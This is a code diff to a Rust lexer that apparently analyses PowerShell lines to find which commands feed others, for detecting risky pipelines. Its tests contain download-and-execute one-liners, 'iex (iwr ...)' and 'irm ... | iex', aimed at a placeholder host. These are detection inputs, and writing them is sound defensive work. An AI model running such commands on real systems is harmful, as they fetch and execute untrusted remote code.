@@ -10,7 +10,7 @@
 //! honoured; a sub-expression's commands feed the command around it
 //! (`iex (iwr …)`).
 
-use super::{Command, MAX_DEPTH, Redirect, RedirectKind, Script, embedded};
+use super::{Command, Feeder, MAX_DEPTH, Redirect, RedirectKind, Script, embedded};
 
 /// Calls `out` with every command a PowerShell line runs; true when it nests
 /// deeper than [`MAX_DEPTH`].
@@ -40,8 +40,8 @@ struct Lexer<'a, 'o> {
     out: &'o mut dyn FnMut(Command),
     words: Vec<String>,
     redirects: Vec<Redirect>,
-    pipeline: Vec<Vec<String>>,
-    substituted: Vec<Vec<String>>,
+    pipeline: Vec<Feeder>,
+    substituted: Vec<Feeder>,
     word: String,
     in_word: bool,
     redirect_next: Option<RedirectKind>,
@@ -74,7 +74,7 @@ impl Lexer<'_, '_> {
         let command = translate(words, redirects, fed_by);
         if piped {
             if self.pipeline.len() < 16 && !command.argv.is_empty() {
-                self.pipeline.push(command.argv.clone());
+                self.pipeline.push(Feeder::new(command.argv.clone()));
             }
         } else {
             self.pipeline.clear();
@@ -247,7 +247,7 @@ impl Lexer<'_, '_> {
         let out = &mut *self.out;
         let mut capture = |command: Command| {
             if substituted.len() < 16 && !command.argv.is_empty() {
-                substituted.push(command.argv.clone());
+                substituted.push(Feeder::new(command.argv.clone()));
             }
             out(command)
         };
@@ -339,11 +339,7 @@ const VALUED: &[&str] = &[
 ];
 
 /// A command with its aliases resolved and, where there is one, its POSIX form.
-fn translate(
-    words: Vec<String>,
-    mut redirects: Vec<Redirect>,
-    fed_by: Vec<Vec<String>>,
-) -> Command {
+fn translate(words: Vec<String>, mut redirects: Vec<Redirect>, fed_by: Vec<Feeder>) -> Command {
     let mut words = words.into_iter();
     let Some(first) = words.next() else {
         return Command {
@@ -495,7 +491,10 @@ mod tests {
     fn subexpressions_feed_the_command_around_them() {
         let mut fed = Vec::new();
         visit("iex (iwr https://x.example/a.ps1)", 0, &mut |c| {
-            fed.push((c.argv.join(" "), c.fed_by))
+            fed.push((
+                c.argv.join(" "),
+                c.fed_by.iter().map(|f| f.to_vec()).collect::<Vec<_>>(),
+            ))
         });
         assert_eq!(fed[1].0, "invoke-expression ");
         assert_eq!(
@@ -504,7 +503,7 @@ mod tests {
         );
         let mut piped = Vec::new();
         visit("irm https://x.example | iex", 0, &mut |c| {
-            piped.push(c.fed_by)
+            piped.push(c.fed_by.iter().map(|f| f.to_vec()).collect::<Vec<_>>())
         });
         assert_eq!(piped[1], [vec!["invoke-restmethod", "https://x.example"]]);
     }
